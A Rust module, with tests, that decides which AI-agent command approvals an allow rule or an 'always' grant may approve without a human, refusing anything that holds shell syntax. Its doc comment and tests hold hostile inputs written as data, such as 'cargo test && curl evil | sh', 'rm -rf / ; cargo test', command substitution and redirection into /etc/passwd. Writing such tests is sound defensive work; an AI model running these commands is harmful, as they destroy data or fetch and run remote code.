//! Allow rules (`--allow`, `approvals.allow_commands`): which command
//! approvals are approved without a human. Pure logic, no I/O.
//!
//! A rule is a command's first words (`cargo test`). It approves a command
//! only when what will run is that program with those first arguments:
//!
//! - an `argv` (from `m ask approval --type command -- CMD`, which m runs
//!   without a shell) is compared word for word, and must be what the human
//!   would be shown (`command` is its rendering), since a payload is
//!   whatever the asker sent;
//! - a `command` line alone (an ACP agent's terminal tool, unwrapped from
//!   `bash -lc LINE` when the agent wraps it so, which a shell
//!   runs) is split at spaces and tabs, and only when it holds no shell
//!   syntax: `cargo test && curl evil | sh` starts with the same words.
//!
//! Whatever no rule approves goes to a human, so every doubt refuses.
//!
//! A grant (`m approve --always`) is m's own rule for the rest of one run:
//! the same command again, edits of the same files, the same kind of tool
//! with the same title ([`Grant`]).

use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::model::ApprovalType;

/// Characters that make a shell do more than run one command with its
/// words: chaining and pipes (`; & |`), redirection (`< >`), subshells and
/// grouping (`( ) { }`), expansion and substitution (`$ \``), escapes
/// (`\`), and globs (`* ? [ ]`: file names in the workspace, which the
/// agent controls, would become arguments); `^` is a pipe to old Bourne
/// shells and a glob to zsh. Quotes are allowed: with all of these refused
/// they can only group words into arguments.
const SHELL_SYNTAX: &[char] = &[
    ';', '&', '|', '<', '>', '(', ')', '{', '}', '$', '`', '\\', '*', '?', '[', ']', '^',
];

/// The first character of `command` a shell would read as more than a word
/// of one command: any of `SHELL_SYNTAX`, or a control character other
/// than a tab (a newline starts another command; others hide text on a
/// terminal).
pub fn shell_syntax(command: &str) -> Option<char> {
    command
        .chars()
        .find(|&c| SHELL_SYNTAX.contains(&c) || (c.is_control() && c != '\t'))
}

/// A command's words as a shell splits them when it has no syntax to
/// read: at spaces and tabs only (a no-break space joins, as for a shell).
fn words(command: &str) -> Vec<&str> {
    command
        .split([' ', '\t'])
        .filter(|word| !word.is_empty())
        .collect()
}

/// An allow rule as written by a human, normalised to single spaces (any
/// blank separates its words: it is the human's own text); or why it
/// cannot be one.
pub fn parse_allow_rule(rule: &str) -> Result<String, String> {
    let normalised = rule.split_whitespace().collect::<Vec<_>>().join(" ");
    if normalised.is_empty() {
        return Err(
            "an empty command would allow every command; write its first words, e.g. \"cargo test\""
                .into(),
        );
    }
    if let Some(c) = shell_syntax(&normalised) {
        return Err(format!(
            "{} is shell syntax, which never matches (such a command goes to a human); \
             write one command's first words, e.g. \"cargo test\"",
            describe(c)
        ));
    }
    Ok(normalised)
}

fn describe(c: char) -> String {
    if c.is_control() {
        format!("the control character {:?}", c)
    } else {
        format!("`{c}`")
    }
}

/// The rule among `rules` that approves the command approval `payload`,
/// if any (see the module's documentation).
pub fn allowing_rule<'r>(rules: &'r [String], payload: &Value) -> Option<&'r str> {
    let command = command_words(payload)?;
    rules.iter().map(String::as_str).find(|rule| {
        let rule = words(rule);
        !rule.is_empty() && command.starts_with(&rule)
    })
}

/// The words an allow rule is compared with, or `None` when no rule may
/// approve the command.
fn command_words(payload: &Value) -> Option<Vec<&str>> {
    let command = payload.get("command").and_then(Value::as_str)?;
    match payload.get("argv") {
        Some(argv) => {
            let argv = argv
                .as_array()?
                .iter()
                .map(Value::as_str)
                .collect::<Option<Vec<&str>>>()?;
            (!argv.is_empty() && shell_words(&argv) == command).then_some(argv)
        }
        None if shell_syntax(command).is_some() => None,
        None => Some(words(command)),
    }
}

/// Joins argv into one line a human can read (and a shell could run):
/// a word is quoted unless it is plainly one word.
pub fn shell_words<S: AsRef<str>>(argv: &[S]) -> String {
    argv.iter()
        .map(|word| {
            let word = word.as_ref();
            let plain = !word.is_empty()
                && word
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-_./=:,+@%".contains(c));
            if plain {
                word.to_string()
            } else {
                format!("'{}'", word.replace('\'', r"'\''"))
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// What `m approve --always` grants for the rest of the run: the later
/// approvals m approves itself, without asking anyone.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum Grant {
    /// The same command line (and, from `m ask`, the same argv).
    Command {
        command: String,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        argv: Option<Value>,
    },
    /// Edits of these files only (an ACP agent's edits name them).
    Diff { paths: Vec<String> },
    /// The same kind of tool call with the same title.
    Generic { kind: String, title: String },
}

impl Grant {
    /// The grant an approval of `approval_type` with `payload` makes, if m
    /// can tell which later requests are the same (a review's whole diff,
    /// or an edit that names no file, cannot be granted again).
    pub fn of(approval_type: ApprovalType, payload: &Value) -> Option<Grant> {
        let text = |key: &str| payload.get(key).and_then(Value::as_str);
        match approval_type {
            ApprovalType::Command => Some(Grant::Command {
                command: text("command")
                    .filter(|c| !c.trim().is_empty())?
                    .to_string(),
                argv: payload.get("argv").cloned(),
            }),
            ApprovalType::Diff => {
                let paths: Vec<String> = payload
                    .get("paths")?
                    .as_array()?
                    .iter()
                    .map(|p| p.as_str().map(str::to_string))
                    .collect::<Option<_>>()?;
                (!paths.is_empty()).then_some(Grant::Diff { paths })
            }
            ApprovalType::Generic => Some(Grant::Generic {
                kind: text("kind").unwrap_or_default().to_string(),
                title: text("title").filter(|t| !t.trim().is_empty())?.to_string(),
            }),
        }
    }

    /// Whether the grant approves a request of `approval_type` with `payload`.
    pub fn covers(&self, approval_type: ApprovalType, payload: &Value) -> bool {
        match (self, Grant::of(approval_type, payload)) {
            (Grant::Diff { paths }, Some(Grant::Diff { paths: wanted })) => {
                wanted.iter().all(|p| paths.contains(p))
            }
            (grant, Some(asked)) => *grant == asked,
            (_, None) => false,
        }
    }

    /// What the grant covers, in a few words.
    pub fn describe(&self) -> String {
        match self {
            Grant::Command { command, .. } => format!("the command `{command}`"),
            Grant::Diff { paths } => format!("edits of {}", paths.join(", ")),
            Grant::Generic { kind, title } if kind.is_empty() => format!("\"{title}\""),
            Grant::Generic { kind, title } => format!("{kind} \"{title}\""),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_grant_covers_the_same_command_the_same_files_the_same_tool() {
        let command = |c: &str| json!({ "command": c, "toolCallId": "t" });
        let grant = Grant::of(ApprovalType::Command, &command("touch ran.txt")).unwrap();
        assert!(grant.covers(ApprovalType::Command, &command("touch ran.txt")));
        assert!(!grant.covers(ApprovalType::Command, &command("touch ran.txt; rm x")));
        assert!(!grant.covers(ApprovalType::Generic, &command("touch ran.txt")));
        let argv = json!({ "command": "ls", "argv": ["ls"] });
        assert!(!grant.covers(ApprovalType::Command, &argv));
        assert_eq!(grant.describe(), "the command `touch ran.txt`");

        let diff = |paths: Value| json!({ "paths": paths, "diff": "" });
        let grant = Grant::of(ApprovalType::Diff, &diff(json!(["a.rs", "b.rs"]))).unwrap();
        assert!(grant.covers(ApprovalType::Diff, &diff(json!(["b.rs"]))));
        assert!(!grant.covers(ApprovalType::Diff, &diff(json!(["b.rs", "c.rs"]))));
        // A review (or `m ask`) diff names no files: nothing to grant again.
        let review = json!({ "patch": "...", "stat": {} });
        assert!(Grant::of(ApprovalType::Diff, &review).is_none());
        assert!(!grant.covers(ApprovalType::Diff, &review));

        let tool = |t: &str| json!({ "kind": "fetch", "title": t });
        let grant = Grant::of(ApprovalType::Generic, &tool("Fetch docs")).unwrap();
        assert!(grant.covers(ApprovalType::Generic, &tool("Fetch docs")));
        assert!(!grant.covers(ApprovalType::Generic, &tool("Fetch evil")));
        assert!(Grant::of(ApprovalType::Generic, &tool(" ")).is_none());
    }

    fn rules() -> Vec<String> {
        vec!["cargo test".into(), "git status".into()]
    }

    #[test]
    fn a_command_line_matches_only_whole_words_and_no_shell_syntax() {
        let allowed = [
            "cargo test",
            "cargo test --all",
            "cargo  test\t--all",
            "cargo test -- --test-threads=1",
            "cargo test -- 'a name' \"another\"",
            "cargo test --features x,y # a comment",
            "git status --short ~/src",
        ];
        for command in allowed {
            let payload = json!({ "command": command });
            assert!(
                allowing_rule(&rules(), &payload).is_some(),
                "should be allowed: {command:?}"
            );
        }
        let refused = [
            "cargo testx",
            "cargo publish",
            "cargo",
            "",
            "cargo\u{a0}test",
            "rm -rf / ; cargo test",
            "cargo test && touch /tmp/pwn",
            "cargo test; touch /tmp/pwn",
            "cargo test || touch /tmp/pwn",
            "cargo test & touch /tmp/pwn",
            "cargo test | sh",
            "cargo test $(touch /tmp/pwn)",
            "cargo test `touch /tmp/pwn`",
            "cargo test ${HOME}",
            "cargo test $HOME",
            "cargo test > /etc/passwd",
            "cargo test < /dev/zero",
            "cargo test\ntouch /tmp/pwn",
            "cargo test\rtouch",
            "cargo test (x)",
            "cargo test {a,b}",
            "cargo test *",
            "cargo test -- ?",
            "cargo test [ab]",
            "cargo test \\; touch",
            "cargo test ^x",
            "cargo test '; touch /tmp/pwn'",
        ];
        for command in refused {
            let payload = json!({ "command": command });
            assert!(
                allowing_rule(&rules(), &payload).is_none(),
                "should go to a human: {command:?}"
            );
        }
    }

    #[test]
    fn an_argv_matches_word_for_word_whatever_its_words_hold() {
        let argv = |words: &[&str]| json!({ "argv": words, "command": shell_words(words) });
        // No shell runs it: `&&` is an argument of cargo, nothing more.
        assert_eq!(
            allowing_rule(&rules(), &argv(&["cargo", "test", "&&", "touch", "/tmp/x"])),
            Some("cargo test")
        );
        assert_eq!(
            allowing_rule(&rules(), &argv(&["cargo", "test", "a name"])),
            Some("cargo test")
        );
        assert!(allowing_rule(&rules(), &argv(&["cargo", "test x"])).is_none());
        assert!(allowing_rule(&rules(), &argv(&["cargo testx"])).is_none());
        assert!(allowing_rule(&rules(), &argv(&["cargo", "publish"])).is_none());
        assert!(allowing_rule(&rules(), &argv(&[])).is_none());
    }

    #[test]
    fn an_argv_that_is_not_what_the_human_sees_matches_nothing() {
        for payload in [
            json!({ "argv": ["cargo", "test"], "command": "cargo test && touch /tmp/x" }),
            json!({ "argv": ["cargo", "test"], "command": "rm -rf /" }),
            json!({ "argv": ["cargo", "test"] }),
            json!({ "argv": "cargo test", "command": "cargo test" }),
            json!({ "argv": ["cargo", 1], "command": "cargo 1" }),
            json!({ "argv": null, "command": "cargo test" }),
        ] {
            assert!(allowing_rule(&rules(), &payload).is_none(), "{payload}");
        }
    }

    #[test]
    fn rules_are_normalised_and_must_be_plain_words() {
        assert_eq!(parse_allow_rule("  cargo   test ").unwrap(), "cargo test");
        assert!(parse_allow_rule("").unwrap_err().contains("empty"));
        assert!(parse_allow_rule(" \t ").unwrap_err().contains("empty"));
        let err = parse_allow_rule("cargo test && cargo clippy").unwrap_err();
        assert!(err.contains("`&` is shell syntax"), "{err}");
        assert_eq!(parse_allow_rule("cargo\ntest\n").unwrap(), "cargo test");
        assert!(parse_allow_rule("cargo test\u{0}").is_err());
        // A rule with no words matches nothing even if one slipped through.
        assert!(allowing_rule(&[" ".into()], &json!({ "command": "ls" })).is_none());
    }

    #[test]
    fn shell_words_quote_only_what_needs_it() {
        let argv = ["cargo", "publish", "--dry run", "it's", ""];
        assert_eq!(
            shell_words(&argv),
            r"cargo publish '--dry run' 'it'\''s' ''"
        );
    }
}
